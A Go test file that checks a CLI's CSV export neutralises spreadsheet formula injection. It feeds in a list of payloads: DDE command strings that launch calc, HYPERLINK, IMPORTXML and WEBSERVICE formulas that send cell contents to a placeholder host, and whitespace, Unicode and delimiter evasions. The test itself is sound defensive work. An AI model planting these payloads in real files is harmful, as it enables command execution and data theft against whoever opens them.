package cli

import (
	"encoding/csv"
	"strings"
	"testing"

	"rapport/store/record"
)

// formulas are what a spreadsheet would run, or be led to run.
var formulas = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
	`=HYPERLINK("http://a.example/?"&A1,"more")`, "=IMPORTXML(CONCAT(\"http://a.example/\",A1),\"//a\")", `=WEBSERVICE("http://a.example")`,
	" =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "'=1+1", `"=1+1`, `""=1+1`,
	"＝1+1", "＋1", "－1", "＠SUM(1)", "a;=1+1", `a";=1+1`, `a"";"=1+1`, "a; =1+1", ";@SUM(1)", "a;+1;-1;@b", "a\",=1+1", "a\r\n=1+1", "a\n=1+1",
	"=", "-", "+", "@", "%0A=1+1", "=1+1\";=2+2",
}

// runnable reports whether a spreadsheet takes a cell for a formula.
func runnable(cell string) bool {
	return strings.ContainsAny(cell, "\t\r\n\x00") || strings.IndexAny(strings.TrimSpace(cell), "=+-@＝＋－＠") == 0
}

// No cell of an export is run by a spreadsheet, whatever a client's words are,
// and whatever sign it parts cells by; and what is not run is as it was.
func TestNoCellOfAnExportRuns(t *testing.T) {
	var cards []*record.Card
	for _, words := range formulas {
		cards = append(cards, &record.Card{
			Client: record.Client{ID: record.NewID(), Code: "maya", Called: words},
			Interests: []record.Interest{{
				ID: record.NewID(), Kind: record.Pet, Name: words, Details: words, Standing: record.Gentle, Because: words, Heard: 20407,
				Fields: []record.Field{{Key: "eats", Value: words}},
			}},
		})
	}
	out := string(csvOf(cards))
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(rows) != len(formulas)+1 {
		t.Fatalf("%d rows: %v", len(rows), err)
	}
	for i, row := range rows {
		if len(row) != len(csvColumns) {
			t.Errorf("row %d has %d cells", i, len(row))
		}
		for _, cell := range row {
			if runnable(cell) {
				t.Errorf("row %d: %q runs", i, cell)
			}
		}
	}
	for _, sign := range ";\t" { // as where the comma is a decimal sign
		for line := range strings.SplitSeq(strings.TrimSuffix(out, "\r\n"), "\r\n") {
			for _, cell := range strings.Split(line, string(sign)) {
				if runnable(strings.TrimLeft(cell, `" `)) {
					t.Errorf("parted by %q, %q runs", sign, cell)
				}
			}
		}
	}
	for _, plain := range []string{"Miso", "a-b", "2026-11-15", "tea, then the crossword", "50% off", `say "hello"`, "Inês", "x = y"} {
		if got := inert(plain); got != plain {
			t.Errorf("%q became %q", plain, got)
		}
	}
}
